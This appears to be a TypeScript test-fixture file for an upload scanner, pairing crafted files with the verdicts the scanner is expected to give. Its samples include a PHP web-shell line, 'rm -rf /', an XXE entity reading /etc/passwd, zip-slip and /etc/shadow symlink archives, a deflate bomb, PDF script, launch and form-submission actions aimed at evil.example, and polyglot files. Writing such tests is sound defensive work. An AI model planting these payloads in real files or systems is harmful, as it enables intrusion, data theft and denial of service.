import { deflateRawSync, constants } from 'node:zlib';
import type { Refusal } from '../content/picture.ts';
import { EICAR } from '../scan/signatures.ts';
import { zip } from './archives.ts';
import { objectStream, pagesOf, pdf, stream } from './pdfs.ts';
import { gif, hugePng, jpeg, jpegWithComment, png, pngWithText, progressive, tiff, webp, withLocation } from './pictures.ts';

/** What becomes of a file: kept, without what was planted in it, or not taken, and why (quality S4). */
export type Outcome = readonly [file: string, bytes: Buffer, outcome: 'KEPT' | Refusal, planted?: string];

const SCRIPT = '<script>alert(1)</script>';
const PHP = '<?php system($_GET[0]); ?>';
const text = (s: string) => Buffer.from(s, 'latin1');
const onOpen = (action: string) => pdf({ catalog: '/OpenAction 4 0 R', objects: [action] });
const JS = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** Ten gibibytes of nothing in ten mebibytes: one piece of a deflate stream, again and again. */
function bomb(): Buffer {
  const piece = deflateRawSync(Buffer.alloc(16 * 1_048_576), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...Array.from({ length: 640 }, () => piece)]);
}
const packed = (body: Buffer, members = '') =>
  Buffer.concat([text(`<< /Filter /FlateDecode /Length ${body.length} ${members} >>\nstream\n`), body, text('\nendstream')]);

const office = zip([
  { name: '[Content_Types].xml', data: text('<!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><t>&x;</t>') },
  { name: 'word/document.xml', data: text('<w:document/>') },
]);
const nested = zip([{ name: 'inner.zip', data: zip([{ name: 'a', data: Buffer.alloc(1_000_000) }]) }]);

const PLAIN: readonly Outcome[] = [
  ['nothing', Buffer.alloc(0), 'EMPTY'],
  ['one byte', text('x'), 'UNSUPPORTED'],
  ['a picture as JPEG', jpeg, 'KEPT'],
  ['a picture as PNG', png, 'KEPT'],
  ['a picture that loads bit by bit', progressive, 'KEPT'],
  ['a PDF', pdf(), 'KEPT'],
  ['a PDF with packed objects', pdf({ objects: [objectStream(9, ['<< /A 1 >>', '<< /B 2 >>'])] }), 'KEPT'],
  ['a PDF with a form that was filled in', pdf({ catalog: '/AcroForm << /Fields [] >>' }), 'KEPT'],
  ['a PDF with a link', pdf({ objects: ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://lender.example) >> >>'] }), 'KEPT'],
  ['a PDF that was changed and saved again', Buffer.concat([pdf(), pdf({ header: '' })]), 'KEPT'],
  ['a PDF whose text speaks of /JavaScript things', pdf({ objects: [stream('BT (see /JS in the manual) Tj ET')] }), 'KEPT'],
  ['a picture that says where it was taken', withLocation, 'KEPT', 'PLANTED-EXIF'],
];

const OTHER_KINDS: readonly Outcome[] = [
  ['a GIF', gif, 'UNSUPPORTED'],
  ['a WebP', webp, 'UNSUPPORTED'],
  ['a TIFF', tiff, 'UNSUPPORTED'],
  ['an SVG with a script', text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`), 'UNSUPPORTED'],
  ['a page called statement.pdf', text(`<!doctype html><html>${SCRIPT}</html>`), 'UNSUPPORTED'],
  ['a script', text('#!/bin/sh\nrm -rf /\n'), 'UNSUPPORTED'],
  ['a Windows program', text('MZ\u0090\u0000\u0003'), 'UNSUPPORTED'],
  ['a Linux program', text('\u007fELF\u0002\u0001'), 'UNSUPPORTED'],
  ['a text', text('Dear sir or madam'), 'UNSUPPORTED'],
  ['a Word file with an entity from outside', office, 'UNSUPPORTED'],
  ['an archive', zip([{ name: 'a.pdf', data: pdf() }]), 'UNSUPPORTED'],
  ['an archive that leaves its folder', zip([{ name: '../../etc/cron.d/x', data: text('x') }]), 'UNSUPPORTED'],
  ['an archive with a link to a secret', zip([{ name: 'x', data: text('/etc/shadow'), link: true }]), 'UNSUPPORTED'],
  ['an archive in an archive', nested, 'UNSUPPORTED'],
  ['an archive that grows to gigabytes', zip([{ name: 'x', data: Buffer.alloc(20_000_000) }]), 'UNSUPPORTED'],
];

const TWO_AT_ONCE: readonly Outcome[] = [
  ['a GIF that is a script', text(`GIF89a/*${'\u0000'.repeat(20)}*/=1;alert(1)`), 'UNSUPPORTED'],
  ['a PDF that is a page', pdf({ header: `%PDF-1.7\n%<html>${SCRIPT}\n` }), 'MIXED'],
  ['a PDF after a page', Buffer.concat([text(`<html>${SCRIPT}`), pdf()]), 'UNSUPPORTED'],
  ['a PDF that begins a kilobyte in', Buffer.concat([Buffer.alloc(1000, 32), pdf()]), 'UNSUPPORTED'],
  ['a PDF with an archive behind it', pdf({ after: zip([{ name: 'x', data: text('x') }]) }), 'MIXED'],
  ['a PDF with an archive in it', pdf({ objects: [stream(zip([{ name: 'x', data: text('x') }]), '', true)] }), 'MIXED'],
  ['a PDF with a program behind it', pdf({ after: '\nMZ\u0090\u0000' }), 'MIXED'],
  ['a PDF that is PHP', pdf({ objects: [stream(PHP, '', true)] }), 'MIXED'],
  ['a JPEG that is PHP', jpegWithComment(PHP), 'KEPT', '<?php'],
  ['a JPEG with an archive behind it', Buffer.concat([jpeg, zip([{ name: 'x', data: text('planted-in-zip') }])]), 'KEPT', 'PK\u0003\u0004'],
  ['a PNG with a script in a comment', pngWithText(SCRIPT), 'KEPT', '<script'],
  ['a PNG with a page behind it', Buffer.concat([png, text(`<html>${SCRIPT}`)]), 'KEPT', '<html'],
  ['a page that begins like a JPEG', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), text(`<html>${SCRIPT}`)]), 'DAMAGED'],
];

const INFECTED: readonly Outcome[] = [
  ['the test virus', text(EICAR), 'INFECTED'],
  ['the test virus in a JPEG', jpegWithComment(EICAR), 'INFECTED'],
  ['the test virus behind a PNG', Buffer.concat([png, text(EICAR)]), 'INFECTED'],
  ['the test virus in a PDF', pdf({ objects: [stream(EICAR, '', true)] }), 'INFECTED'],
  ['the test virus packed in a PDF', pdf({ objects: [stream(`${'x'.repeat(65_500)}${EICAR}`)] }), 'INFECTED'],
];

const ACTIVE: readonly Outcome[] = [
  ['a PDF that runs a script', onOpen(JS), 'ACTIVE'],
  ['a PDF that spells its script otherwise', onOpen('<< /S /J#61va#53cript /#4AS (app.alert\\(1\\)) >>'), 'ACTIVE'],
  ['a PDF with a script in packed objects', pdf({ catalog: '/OpenAction 9 0 R', objects: [objectStream(9, [JS])] }), 'ACTIVE'],
  ['a PDF with a script inside a stream', pdf({ objects: [stream(`9 0 obj ${JS} endobj`, '', true)] }), 'ACTIVE'],
  ['a PDF with a script nobody points to', pdf({ objects: [JS] }), 'ACTIVE'],
  ['a PDF that starts a program', onOpen('<< /S /Launch /F (cmd.exe) >>'), 'ACTIVE'],
  ['a PDF with a file in it', pdf({ objects: [stream('x', '/Type /EmbeddedFile')] }), 'ACTIVE'],
  ['a PDF that opens another', onOpen('<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>'), 'ACTIVE'],
  ['a PDF that sends a form away', onOpen('<< /S /SubmitForm /F (https://evil.example) >>'), 'ACTIVE'],
  ['a PDF that is an XML form', pdf({ catalog: '/AcroForm << /XFA 4 0 R >>', objects: [stream('<xdp/>')] }), 'ACTIVE'],
  ['a PDF with a film', pdf({ objects: ['<< /Subtype /RichMedia >>'] }), 'ACTIVE'],
];

const UNREADABLE: readonly Outcome[] = [
  ['a PDF with a password', pdf({ trailer: '/Encrypt 4 0 R', objects: ['<< /Filter /Standard /V 5 >>'] }), 'PROTECTED'],
  ['a PDF with a password, spelled otherwise', pdf({ trailer: '/#45ncrypt 4 0 R', objects: ['<< /Filter /Standard >>'] }), 'PROTECTED'],
  ['a PDF that is its own page', pdf({ pages: '/Kids [2 0 R] /Count 1' }), 'DAMAGED'],
  [
    'a PDF whose pages run in a circle',
    pdf({ pages: '/Kids [4 0 R] /Count 1', objects: ['<< /Type /Pages /Kids [5 0 R] >>', '<< /Type /Pages /Kids [4 0 R] >>'] }),
    'DAMAGED',
  ],
  ['a PDF without a page', pdf({ pages: '/Kids [] /Count 0' }), 'DAMAGED'],
  ['a PDF of ten thousand pages', pagesOf(10_000), 'TOO_MANY_PAGES'],
  ['a PDF that shows one page a thousand times', pdf({ pages: `/Kids [${'3 0 R '.repeat(1000)}] /Count 1000` }), 'TOO_MANY_PAGES'],
  ['a PDF of three hundred pages', pagesOf(300), 'KEPT'],
  ['half a PDF', pagesOf(50).subarray(0, 1500), 'DAMAGED'],
  ['the beginning of a PDF', text('%PDF-1.7\n'), 'DAMAGED'],
  ['a PDF that grows to ten gigabytes', pdf({ objects: [packed(bomb())] }), 'TOO_DENSE'],
  [
    'a PDF whose objects grow to gigabytes',
    pdf({ objects: [packed(bomb().subarray(0, 200_000), '/Type /ObjStm /N 1 /First 4')] }),
    'TOO_DENSE',
  ],
  [
    'a PDF whose objects are packed in an unusual way',
    pdf({ objects: [stream('9 0 x', '/Filter /LZWDecode /Type /ObjStm /N 1 /First 4', true)] }),
    'DAMAGED',
  ],
  ['a PDF whose packed objects are broken', pdf({ objects: [packed(text('not packed'), '/Type /ObjStm /N 1 /First 4')] }), 'DAMAGED'],
  ['a PDF of open brackets', pdf({ after: `${'('.repeat(2_000_000)}\n%%EOF` }), 'KEPT'],
  ['a PNG of 50,000 by 50,000', hugePng(50_000, 50_000, 1), 'TOO_MANY_PIXELS'],
  ['a PNG of 12,000 by 12,000', hugePng(12_000, 12_000, 1), 'TOO_MANY_PIXELS'],
  ['a PNG with most of it missing', hugePng(4000, 4000, 10), 'DAMAGED'],
  ['the beginning of a PNG', png.subarray(0, 20), 'DAMAGED'],
  ['half a JPEG', jpeg.subarray(0, jpeg.length / 2), 'DAMAGED'],
];

export const OUTCOMES: readonly Outcome[] = [...PLAIN, ...OTHER_KINDS, ...TWO_AT_ONCE, ...INFECTED, ...ACTIVE, ...UNREADABLE];
